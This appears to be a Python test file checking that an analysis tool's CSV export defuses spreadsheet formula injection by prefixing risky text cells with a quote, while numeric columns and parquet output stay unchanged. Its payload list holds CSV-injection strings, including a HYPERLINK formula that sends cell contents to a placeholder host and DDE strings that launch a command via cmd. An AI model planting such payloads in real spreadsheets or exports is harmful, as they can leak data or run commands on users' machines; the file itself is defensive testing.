import csv

import pandas as pd
from helpers_logs import SampleSpec, write_log

from aflab.analysis import export_table, samples_table
from aflab.analysis._spreadsheet import FORMULA_STARTS, spreadsheet_safe

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_samples_csv_neutralises_formulas_in_text_cells(tmp_path):
    specs = [
        SampleSpec(f"q{i}", "training", complied=1.0, output=payload, query=payload)
        for i, payload in enumerate(PAYLOADS)
    ]
    df = samples_table(write_log(tmp_path / "run.eval", specs))
    paths = export_table(df, tmp_path / "out")
    with paths["csv"].open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["query"] for row in rows] == ["'" + p for p in PAYLOADS]
    for row in rows:
        assert not row["output"].startswith(FORMULA_STARTS)
        assert not row["query"].startswith(FORMULA_STARTS)
        assert row["complied"] == "1.0"  # numbers stay numbers
    # The parquet table keeps the text unchanged.
    assert list(pd.read_parquet(paths["parquet"])["query"]) == PAYLOADS


def test_only_text_cells_change():
    df = pd.DataFrame(
        {"text": ["=1", "plain", None, "-x"], "number": [-1.5, 2.0, float("nan"), -3.0]}
    )
    safe = spreadsheet_safe(df)
    assert list(safe["text"][:2]) == ["'=1", "plain"] and safe["text"][3] == "'-x"
    assert pd.isna(safe["text"][2])
    assert safe["number"].equals(df["number"])
    assert list(df["text"][:1]) == ["=1"]  # the input is not modified
